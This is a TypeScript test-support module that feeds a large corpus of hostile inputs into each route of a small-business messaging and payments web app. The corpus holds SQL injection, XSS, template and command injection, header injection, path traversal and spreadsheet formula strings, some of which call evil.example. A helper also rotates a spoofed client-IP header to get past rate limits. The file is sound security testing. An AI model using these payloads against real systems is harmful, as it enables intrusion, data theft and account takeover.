/** What strangers have typed into other people's forms and chats, and the fields they may type it into here. */
import { entryOf, exportNames, type ExportName } from '../../src/export/export.ts'
import { nameOf } from '../../src/vendors/whapi-item.ts'
import { initialsOf } from '../pages/parts.tsx'
import { ORIGIN, type House } from '../testing.ts'
import { askForm, askPayment, payPathOf, setUpMerchant } from '../webhooks/testing.ts'

const hostile = {
  sql: [
    `' or '1'='1`,
    `'; drop table app.messages; --`,
    `" or ""="`,
    `1; select pg_sleep(10)--`,
    `') union select password_hash from app.users --`,
    `\\'; delete from app.orgs; --`,
    `$1; update app.members set role = 'owner'`,
    `{"$ne": null}`,
    `%' and 1=0 union all select null --`,
    `x'::uuid; set role app_owner; --`,
  ],
  markup: [
    `<script>alert(1)</script>`,
    `<img src=x onerror=alert(1)>`,
    `"><svg onload=alert(1)>`,
    `' onmouseover='alert(1)`,
    `" autofocus onfocus="alert(1)`,
    `</title></textarea></style><script>alert(1)</script>`,
    `&lt;script&gt;alert(1)&lt;/script&gt;`,
    `<!-- comment`,
    `]]><script>alert(1)</script>`,
    `<a href="javascript:alert(1)">tap</a>`,
    `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
    `<style>@import 'https://evil.example/x.css';</style>`,
    `<base href="https://evil.example/">`,
    `<form action="https://evil.example"><input name="password">`,
    `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
    `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
    `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
    `&#60;b&#62;bold&#60;/b&#62; &amp;amp; &copy`,
    `\`onload=alert(1)\``,
    `<sCrIpT/src=//evil.example/x.js>`,
    `=""><b>`,
  ],
  templates: [
    `{{constructor.constructor("alert(1)")()}}`,
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '{% include "/etc/passwd" %}',
    '$(touch /tmp/owned)',
    '`touch /tmp/owned`',
    '%s%s%n',
    '{0}{1}',
    '$& $1 $$ $`',
  ],
  lines: [
    'first\r\nSet-Cookie: sid=stolen',
    'first\nBcc: everybody@example.com',
    'first\r\n\r\n<script>alert(1)</script>',
    '%0d%0aLocation:%20https://evil.example',
    'first\u2028second\u2029third',
    'tab\there, bell \u0007, escape \u001B[31m',
    'vertical\u000Bform\u000Cnext\u0085',
  ],
  unicode: [
    'nul\u0000in the middle',
    'half a pair \uD83D here',
    'the other half \uDE00 here',
    'right to left \u202Egnp.exe',
    'isolated \u2066\u2067left\u2069',
    'zero\u200Bwidth\u200Djoin\uFEFF',
    '\u200B\u200E\uFEFF',
    '＜script＞alert(1)＜/script＞',
    'ＳＥＬＥＣＴ ＊ ＦＲＯＭ users',
    '👩‍👩‍👧‍👦🏳️‍🌈🇿🇦',
    'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!',
    'ﷺ اَلْعَرَبِيَّةُ',
    'ıİſK ß ΐ',
    '\u{10FFFF}\uFFFE\uFFFF',
  ],
  names: [
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '__proto__[role]=owner',
    'null',
    'undefined',
    'NaN',
    'true',
    '-1',
    '1e309',
    '0x7fffffff',
  ],
  paths: [
    '../../../../etc/passwd',
    '..%2f..%2fetc%2fpasswd',
    String.raw`..\..\windows\win.ini`,
    '/etc/passwd%00.png',
    'file:///etc/passwd',
    '//evil.example/path',
  ],
  links: [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    '\u0001javascript:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    'javascript://www.example.com/%0aalert(1)',
    'data:text/html,<script>alert(1)</script>',
    'DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
    'https://user:pass@evil.example/',
  ],
  formulas: [
    '=1+1',
    '+27825550100',
    '-2+3',
    '@SUM(1+1)*cmd|calc',
    '=HYPERLINK("https://evil.example","tap")',
    "'=1+1",
  ],
  long: ['x'.repeat(10_000), '<b>'.repeat(1000), '€'.repeat(3000), `${'"'.repeat(300)}>`],
} as const

export const corpus: readonly string[] = Object.values(hostile).flat()
export const linkCorpus: readonly string[] = hostile.links

/** What a file is asked for with: all that its entry can be narrowed by. */
const fileQuery = (what: ExportName): Record<string, string> => {
  const narrowing = {
    conversation: '018f0000-0000-7000-8000-000000000003',
    who: 'all',
    what: 'all',
  }
  const own = (entryOf(what).filters ?? []).map((name) => [name, narrowing[name]])
  const days = { from: '2026-11-01', to: '2026-11-30' }
  return { ...days, separator: 'comma', form: 'spreadsheet', ...Object.fromEntries(own) }
}

/** Values that each route takes, by the field's name: the others stay so while one is hostile. */
type Takes = { form?: Record<string, string>; query?: Record<string, string> }
const v = 'a version'
const before = '2026-11-24T08:00:00.000Z_018f0000-0000-7000-8000-000000000001'
const email = 'somebody@example.com'
const t = 'x'.repeat(43)
export const takes: Record<string, Takes> = {
  'GET /login': { query: { notice: 'link_spent' } },
  'POST /login': { form: { email } },
  'GET /login/verify': { query: { t } },
  'POST /login/verify': { form: { t, code: '1234 5678', password: 'seven quiet hadedas' } },
  'POST /login/password': { form: { email, password: 'seven quiet hadedas' } },
  'POST /login/reset': { form: { email } },
  'GET /confirm': { query: { next: '/security', sent: '1' } },
  'POST /confirm': { form: { next: '/security', password: 'not the right one', code: '' } },
  'POST /confirm/code': { form: { next: '/security' } },
  'GET /security/second-factor': { query: { notice: 'saved' } },
  'POST /security/second-factor': { form: { kind: 'email' } },
  'POST /security/second-factor/app': { form: { sealed: 'v1.x', code: '123456' } },
  'GET /security/email': { query: { notice: 'saved' } },
  'POST /security/email': { form: { email, code: '1234 5678' } },
  'POST /login/second': { form: { code: '1234 5678', trust: '1' } },
  'GET /security/password': { query: { notice: 'saved' } },
  'POST /security/password': { form: { current: '', password: 'seven quiet hadedas' } },
  'POST /signup': {
    form: { business: 'Karoo Plumbers', name: 'Pieter', email, phone: '082 555 0133' },
  },
  'GET /': { query: { show: 'all', before, v } },
  'GET /live': { query: { show: 'all', before, v } },
  'GET /conversations/:id': { query: { before: '7', v, done: 'takeover' } },
  'GET /conversations/:id/live': { query: { before: '7', v, done: 'takeover' } },
  'POST /conversations/:id/replies': { form: { text: 'On my way', cid: crypto.randomUUID() } },
  'POST /conversations/:id/payment': { form: { ...askForm, cid: crypto.randomUUID() } },
  'GET /payments': { query: { before: `2026-11-24T08:00:00.000Z_${crypto.randomUUID()}` } },
  'POST /payments/account': { form: { merchantId: '1', merchantKey: '', passphrase: '' } },
  'GET /pay/:token': { query: { notice: 'back' } },
  'GET /pay/:token/live': { query: { v } },
  'GET /connect/live': { query: { v } },
  'POST /connect': { form: { token: 'no-such-token', phone: '082 555 0150' } },
  'GET /team': { query: { done: 'saved' } },
  'POST /team/invitations': { form: { email, role: 'staff' } },
  'POST /team/members/:id/role': { form: { role: 'viewer' } },
  'POST /team/roles': { form: { name: 'Reader' } },
  'POST /team/roles/:id': { form: { name: 'Reader' } },
  'POST /team/security': { form: { required: 'no' } },
  'GET /join': { query: { t } },
  'POST /join': { form: { t, name: 'Thabo' } },
  'POST /businesses': { form: { org: '018f0000-0000-7000-8000-000000000002' } },
  'GET /subscription': { query: { done: 'paused' } },
  'GET /subscription/checkout': { query: { notice: 'back' } },
  'GET /subscription/return/live': { query: { v: 'waits' } },
  'GET /subscription/pause': { query: { notice: 'away' } },
  'POST /subscription/pause': { form: { to: 'paused' } },
  'POST /subscription/vat-number': { form: { vatNumber: '4123456789' } },
  'GET /activity': { query: { who: 'all', what: 'all', before: '7' } },
  ...Object.fromEntries(
    exportNames.map((what) => [`GET /export/${what}.csv`, { query: fileQuery(what) }]),
  ),
  'GET /export': {
    query: { ...fileQuery('messages'), ...fileQuery('activity') },
  },
  'GET /export/messages.csv': {
    query: { ...fileQuery('messages'), export: crypto.randomUUID(), after: crypto.randomUUID() },
  },
}

/** Puts an id of this house's own into a route: of its conversation, a colleague or a role. */
export const ownRows = async (house: House) => {
  await house.deliver(house.says('Good day, are you open?'))
  await house.work()
  await house.signedIn('staff')
  await house.signedIn('custom')
  const idOf = async (select: string) => {
    const [[row] = []] = await house.asOwner(select)
    return String(row?.['id'])
  }
  await setUpMerchant(house)
  const chat = await idOf('select id from app.conversations limit 1')
  const request = await askPayment(house, chat)
  const payPath = await payPathOf(house, request)
  const ids = {
    '/payments/:id': request,
    '/team/members': await idOf(`select id from app.members where role = 'staff' limit 1`),
    '/team/roles': await idOf(`select id from app.custom_roles limit 1`),
    '': chat,
  }
  return (route: string): string => {
    const [, id = ''] = Object.entries(ids).find(([start]) => route.includes(start)) ?? []
    return route.replace(':id', id).replace(':message', id).replace('/pay/:token', payPath)
  }
}

let turn = 0
/** A network of its own for every request at a way in, so that no limit is met; whoever is in stays where they are. */
export const fromAnywhere = (): Record<string, string> => {
  turn += 1
  return { 'CF-Connecting-IP': `10.${(turn >> 16) & 255}.${(turn >> 8) & 255}.${turn & 255}` }
}

const isWayIn = (path: string) => /^\/(login|signup|join)/.test(path)

type Sent = { query?: URLSearchParams; form?: URLSearchParams; headers?: Record<string, string> }

/** A request as a browser makes it from a page of ours. */
export const send = (house: House, route: string, { query, form, headers = {} }: Sent) => {
  const [method = '', path = ''] = route.split(' ')
  return house.request(path + (query ? `?${query.toString()}` : ''), {
    method,
    headers: { Origin: ORIGIN, ...(isWayIn(path) ? fromAnywhere() : {}), ...headers },
    ...(method === 'POST' ? { body: form ?? new URLSearchParams() } : {}),
  })
}

/** In a function, which keeps its plan: it is asked thousands of times. */
const addStates = async (house: House): Promise<void> => {
  const [tables = []] = await house.asOwner(
    `select relname from pg_class k join pg_namespace n on n.oid = k.relnamespace where nspname = 'app' and relkind = 'r'`,
  )
  const each = tables.map(
    ({ relname }) =>
      `select '${String(relname)}', count(*) || ' ' || coalesce(max(xmin::text::bigint), 0) from app.${String(relname)}`,
  )
  await house.asOwner(
    `create function app.table_states() returns table (name text, state text) language plpgsql as $$
     begin return query ${each.join(' union all ')}; end $$`,
  )
}
const housesWithStates = new WeakMap<House, Promise<void>>()

/** What the state of every table comes to: rows, and the newest transaction that wrote one. */
export const tableStates = async (house: House): Promise<Record<string, string>> => {
  const added = housesWithStates.get(house) ?? addStates(house)
  housesWithStates.set(house, added)
  await added
  const [rows = []] = await house.asOwner('select name, state from app.table_states()')
  return Object.fromEntries(rows.map(({ name, state }) => [String(name), String(state)]))
}

export const changedTables = (
  earlier: Record<string, string>,
  later: Record<string, string>,
): string[] => Object.keys(later).filter((name) => later[name] !== earlier[name])

/** As the database can hold it: the only two things it cannot are replaced. */
export const storable = (text: string): string => text.replaceAll('\0', '\uFFFD').toWellFormed()

/** Harmless words that bring about the same parts of a page: initials or none, a name or a number. */
export const neutralName = (name: string): string => {
  const shown = nameOf(storable(name))
  if (shown === null) return ''
  return initialsOf(shown) === '' ? '12 34' : 'Neutral Name'
}

/** As a page must hold it: escaped once. */
export const escapedOnce = (text: string): string =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;')
    .replaceAll("'", '&#39;')

const ADDRESSES = /\s(?:href|src|action|formaction|data-live|data-reading)="([^"]*)"/g
const HARMLESS = /^(?:\/(?!\/)|\?|#|tel:\+?\d|mailto:|https?:\/\/)/

/** The addresses of a page that lead anywhere but into this site, to a phone, a mail or a web page. */
export const dangerousLinks = (page: string): string[] =>
  [...page.matchAll(ADDRESSES)].map(([, address = '']) => address).filter((a) => !HARMLESS.test(a))

export const addressesOf = (page: string): number => [...page.matchAll(ADDRESSES)].length
